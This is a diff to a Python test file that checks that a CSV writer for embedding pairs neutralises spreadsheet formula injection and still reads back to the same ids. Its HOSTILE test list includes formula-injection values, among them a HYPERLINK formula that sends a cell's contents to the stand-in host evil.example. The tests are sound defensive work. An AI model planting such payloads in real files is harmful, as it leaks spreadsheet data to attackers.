@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv as csv_module
 import itertools
 
 import numpy as np
@@ -15,6 +16,7 @@ from embedkit.analysis.pairs import (
     pair_names,
     read_pairs,
     sample_pairs,
+    write_pairs,
 )
 from embedkit.errors import ConfigError
 
@@ -40,6 +42,37 @@ def test_csv(tmp_path):
     assert pairs.same.tolist() == [True, True, False, False]
     # a/1, a/2 and a/3 are linked by genuine pairs, so both impostor pairs share that identity.
     assert pairs.identities.tolist() == [[0, 0], [0, 0], [0, 3], [5, 0]]
+
+
+HOSTILE = ["=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "\n=x", "'=1+1", "''=1", "'x", "a;=1+1", 'a"b', "a,=1",
+           '=HYPERLINK("http:evil.example?x="&A1,"judge").jpg', "a\t=1", " x ", "plain.jpg"]  # fmt: skip
+
+
+def test_what_we_write_holds_no_formula_and_reads_back_to_the_same_ids(tmp_path):
+    path, count = tmp_path / "pairs.csv", len(HOSTILE)
+    a, b = np.arange(count), (np.arange(count) + 1) % count
+    write_pairs(path, HOSTILE, (a, b, np.ones(count)))
+    with open(path, newline="", encoding="utf-8") as file:
+        rows = list(csv_module.reader(file))
+    assert rows[0] == ["a", "b", "cosine", "same"] and len(rows) == count + 1
+    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n")]
+    # A spreadsheet of a country whose lists have semicolons splits there, unless the cell is in quotes.
+    for separator in ";\t":
+        with open(path, newline="", encoding="utf-8") as file:
+            assert not [cell for row in csv_module.reader(file, delimiter=separator) for cell in row
+                        if cell[:1] in tuple("=+-@")]  # fmt: skip
+    with open(path, "w", newline="", encoding="utf-8") as file:  # judged, as a spreadsheet saves it
+        writer = csv_module.writer(file)
+        writer.writerows([rows[0], *([*row[:3], str(at % 2)] for at, row in enumerate(rows[1:]))])
+    pairs = read_pairs(path, HOSTILE, identities=False)
+    assert pairs.a.tolist() == a.tolist() and pairs.b.tolist() == b.tolist()
+    assert set(pair_names(path)) == set(HOSTILE)
+
+
+def test_an_apostrophe_that_a_person_wrote(tmp_path):
+    path = csv(tmp_path, "a,b,same\n'=x,y,1\ny,'-z,0\n")
+    pairs = read_pairs(path, ["'=x", "y", "-z"])
+    assert pairs.a.tolist() == [0, 1] and pairs.b.tolist() == [1, 2]
 
 
 def test_csv_with_a_byte_order_mark_and_windows_lines(tmp_path):
@@ -72,8 +105,8 @@ def test_pairs_among_some_of_the_rows():
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        ("", "expected the columns a, b and same .* found 'nothing"),
-        ("a,b\nx,y\n", "expected the columns a, b and same .* found 'a, b"),
+        ("", "expected the columns a, b and same .* found nothing"),
+        ("a,b\nx,y\n", "expected the columns a, b and same .* found a, b"),
         ("a,b,same\n", "found 0 of one and 0 of two"),
         ("a,b,same\na/1.jpg,a/2.jpg,1\n", "found 1 of one and 0 of two"),
         ("a,b,same\na/1.jpg,b/1.jpg,0\na/1.jpg,b/2.jpg,0\n", "found 0 of one and 2 of two"),
